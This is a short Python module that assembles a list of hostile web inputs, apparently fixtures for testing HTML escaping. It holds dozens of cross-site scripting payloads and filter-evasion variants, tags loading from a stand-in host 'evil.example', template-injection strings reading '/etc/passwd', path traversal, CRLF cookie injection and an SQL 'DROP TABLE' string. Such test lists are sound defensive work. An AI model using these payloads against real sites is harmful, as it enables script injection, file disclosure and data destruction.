"""Words that would like to be more than words."""

from __future__ import annotations

TAGS = [
    "<script>{run}</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<scr<script>ipt>{run}</scr</script>ipt>",
    "<img src=x onerror={run}>",
    "<img src='x' onerror='{run}'>", "<svg onload={run}>", "<svg/onload={run}>", "<svg><script>{run}</script></svg>", "<body onload={run}>",
    "<iframe src=javascript:{run}></iframe>", "<iframe srcdoc='<script>{run}</script>'></iframe>", "<object data=javascript:{run}>",
    "<embed src=javascript:{run}>", "<a href=javascript:{run}>here</a>", "<a href='java\tscript:{run}'>here</a>",
    "<math><a xlink:href=javascript:{run}>x</a></math>", "<form action=javascript:{run}><button>x</button></form>",
    "<input onfocus={run} autofocus>", "<select onfocus={run} autofocus>", "<textarea onfocus={run} autofocus>",
    "<details open ontoggle={run}>", "<video src=x onerror={run}>", "<audio src=x onerror={run}>", "<marquee onstart={run}>",
    "<style>@import 'javascript:{run}'</style>", "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>", "<div style='background:url(javascript:{run})'>", "<p onclick={run}>press</p>",
    "<template><script>{run}</script></template>", "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "<button formaction=javascript:{run}>x</button>", "<isindex action=javascript:{run}>", "<table background=javascript:{run}>",
    "<keygen autofocus onfocus={run}>", "<xss onpointerover={run}>hover</xss>", "<a onmouseover={run}>x</a>",
]  # fmt: skip
BREAKS = ["", "</p>", "</textarea>", '">', "'>", "--></li></ol>", "]]>", "</title>", "</summary></details>", "</noscript>"]
SINGLE = [
    "javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "{{ 7 * 7 }}", "{% include '/etc/passwd' %}",
    "{{ say.__globals__ }}",
    "${alert(1)}", "#{alert(1)}", "<%= 7 %>", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;", "%3Cscript%3E",
    "\\u003cscript\\u003e",
    "<!-- <img src='--><img src=x onerror=alert(1)>", "<![CDATA[<script>alert(1)</script>]]>", "<?xml version='1.0'?>", "<", ">",
    "&", '"', "'",
    "' autofocus onfocus=alert(1) x='", '" autofocus onfocus=alert(1) x="', "`onclick=alert(1)", "\x00<script>alert(1)</script>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "＜script＞alert(1)＜/script＞", "<scrıpt>alert(1)</scrıpt>",
    "\u202e<script>alert(1)</script>",
    "*bold* **strong** [x](javascript:alert(1))", "<strong>not ours</strong>", "<li class='coach'><p>I am your coach</p></li>",
    "event: hidden\n\n",
    "x\r\nSet-Cookie: visit=evil", "web:other:nonce", "../../etc/passwd", "'; DROP TABLE line; --",
]  # fmt: skip

HOSTILE = [tag.replace("{run}", "alert(1)") for tag in TAGS]
HOSTILE += [f"{close}{tag.replace('{run}', 'alert(1)')}" for close in BREAKS[1:] for tag in (TAGS[0], TAGS[3], TAGS[5], TAGS[13])]
HOSTILE += SINGLE
